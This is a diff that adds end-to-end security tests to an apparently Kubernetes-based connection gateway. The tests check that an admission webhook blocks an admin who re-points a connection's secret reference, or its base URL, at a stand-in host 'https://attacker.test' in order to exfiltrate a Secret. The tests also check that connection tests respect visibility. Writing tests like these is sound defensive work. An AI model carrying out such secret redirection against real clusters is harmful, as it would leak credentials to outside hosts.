@@ -11,6 +11,7 @@ import pytest
 import yaml
 
 from gatehouse_dev.cluster import Cluster
+from gatehouse_dev.waiting import wait_for
 from tests.e2e.conftest import Stack
 from tests.e2e.gatehouse_fixtures import (
     API_KEY_AUTH,
@@ -217,3 +218,143 @@ def test_only_admins_test_connections(
     assert reply.status_code == 201, reply.text
     assert reply.json()["passed"] is True
     assert reply.json()["response"]["statusCode"] == 200
+
+
+def _grant(cluster: Cluster, namespace: str, who: str, name: str, *rule: str) -> None:
+    """A Role of its own for one member, waited for until the authorizer sees it."""
+    cluster.kubectl("create", "role", name, *rule, "-n", namespace)
+    cluster.kubectl(
+        "create",
+        "rolebinding",
+        name,
+        f"--role={name}",
+        f"--serviceaccount={namespace}:{who}",
+        "-n",
+        namespace,
+    )
+
+
+def test_a_connection_sends_only_secrets_its_author_may_read(
+    cluster: Cluster, stack: Stack, namespace: str, project: dict[str, Member]
+) -> None:
+    """gatehouse-admin holds no Secret rights: pointing a connection's secretRef at a Secret of
+    the namespace (or a connection that has one at another host) would hand that Secret's value
+    to whichever host baseURL names. The admission webhook asks for get on the Secret."""
+    apply(cluster, namespace, secret("db-password", password="canary-db-password"))
+    admin = project["admin"]
+    stealing = connection(
+        "steal",
+        "https://attacker.test",
+        {"type": "bearer", "secretRef": {"name": "db-password", "key": "password"}},
+    )
+    refused = _apply_as(cluster, admin, namespace, stealing)
+    assert refused.returncode != 0
+    assert "denied the request" in refused.stderr
+    assert "spec.auth.secretRef:" in refused.stderr
+    assert "may not get Secret 'db-password'" in refused.stderr
+    assert "canary-db-password" not in refused.stderr
+
+    # An existing connection's Secret cannot be moved to another host either...
+    moved = _as(
+        cluster,
+        admin,
+        namespace,
+        "patch",
+        "externalconnection",
+        "locked",
+        "--type=merge",
+        "-p",
+        '{"spec":{"baseURL":"https://attacker.test"}}',
+    )
+    assert moved.returncode != 0
+    assert "spec.baseURL:" in moved.stderr
+    assert "may not get Secret 'vendor'" in moved.stderr
+    # ...nor re-pointed at another Secret, while every other edit stays the admin's.
+    repointed = _as(
+        cluster,
+        admin,
+        namespace,
+        "patch",
+        "externalconnection",
+        "locked",
+        "--type=json",
+        "-p",
+        '[{"op":"replace","path":"/spec/auth/secretRef/name","value":"db-password"}]',
+    )
+    assert "may not get Secret 'db-password'" in repointed.stderr
+    edited = _as(
+        cluster,
+        admin,
+        namespace,
+        "patch",
+        "externalconnection",
+        "locked",
+        "--type=merge",
+        "-p",
+        '{"spec":{"allowedPaths":["/echo"],"instructions":"still mine"}}',
+    )
+    assert edited.returncode == 0, edited.stderr
+
+    # With get on that one Secret, the same connection is admitted.
+    _grant(
+        cluster,
+        namespace,
+        "admin",
+        "db-reader",
+        "--verb=get",
+        "--resource=secrets",
+        "--resource-name=db-password",
+    )
+
+    def admitted() -> bool:
+        return _apply_as(cluster, admin, namespace, stealing).returncode == 0
+
+    wait_for(admitted, timeout=10, interval=0.2, what="the admin's Secret role")
+
+
+def test_kubectl_tests_only_connections_the_requester_may_see(
+    cluster: Cluster, namespace: str, project: dict[str, Member]
+) -> None:
+    """create connectiontests alone is not a way around the service API's visibility rule: an
+    AdminsOnly connection is tested only by those who may update it."""
+    for who in ("builder", "viewer"):
+        _grant(
+            cluster,
+            namespace,
+            who,
+            f"tester-{who}",
+            "--verb=create",
+            "--resource=connectiontests.gatehouse.dev",
+        )
+
+    def test_of(target: str) -> dict[str, Any]:
+        return {
+            "apiVersion": "gatehouse.dev/v1alpha1",
+            "kind": "ConnectionTest",
+            "metadata": {"generateName": f"{target}-"},
+            "spec": {"connection": target, "path": "/echo/x"},
+        }
+
+    def create(who: str, target: str) -> subprocess.CompletedProcess[str]:
+        return _as(
+            cluster,
+            project[who],
+            namespace,
+            "create",
+            "-f",
+            "-",
+            stdin=yaml.safe_dump(test_of(target)),
+        )
+
+    wait_for(
+        lambda: create("builder", "open").returncode == 0,
+        timeout=10,
+        interval=0.2,
+        what="the builder's test role",
+    )
+    for who, target in (("builder", "locked"), ("builder", "absent"), ("viewer", "locked")):
+        refused = create(who, target)
+        assert refused.returncode != 0, (who, target)
+        # Missing and not visible read the same, so the refusal tells nothing of AdminsOnly ones.
+        assert f"no ExternalConnection '{target}' that" in refused.stderr, refused.stderr
+    assert create("admin", "locked").returncode == 0
